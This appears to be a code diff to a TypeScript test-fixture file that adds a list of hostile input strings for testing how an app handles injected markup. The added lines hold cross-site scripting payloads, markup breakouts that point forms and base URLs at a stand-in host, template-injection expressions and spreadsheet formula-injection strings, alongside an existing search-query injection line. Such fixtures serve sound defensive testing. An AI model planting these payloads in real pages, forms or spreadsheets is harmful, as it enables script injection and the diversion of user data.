@@ -54,6 +54,15 @@ const OWN_QUESTIONS = [
   '" OR passages MATCH \'*\' NEAR("crm" "hubspot", 5) AND NOT title:x ^connect*',
 ];
 
+const OWN_SCRIPTS = [
+  `"><img src=x onerror="alert(1)"><script>alert(1)</script><svg/onload=alert(1)>`,
+  "<a href=javascript:alert(1)>here</a> javascript:alert(1)",
+  "<iframe srcdoc='<script>alert(1)</script>'></iframe><style>*{display:none}</style>",
+  "</title></textarea></script><base href=//evil.example/><form action=//evil.example>",
+  "{{constructor.constructor('alert(1)')()}} ${alert(1)} [x](javascript:alert(1)) ![x](//evil.example/x.png)",
+  "=HYPERLINK(\"//evil.example\") +cmd|' /C calc'!A0 @SUM(1) \t=1+1",
+];
+
 const TEMPLATES = [
   (each: string) => each,
   (each: string) => `How do I connect my CRM? Also: ${each}`,
@@ -68,3 +77,5 @@ export const HOSTILE_QUESTIONS = [
   ...naughty.filter((_, at) => at % 3 === 0),
   ...scripts.filter((_, at) => at % 3 === 0),
 ].filter(fits);
+/** What browsers may take for markup of ours. */
+export const SCRIPTS = [...OWN_SCRIPTS, ...scripts].filter((script) => script.trim().length > 2);
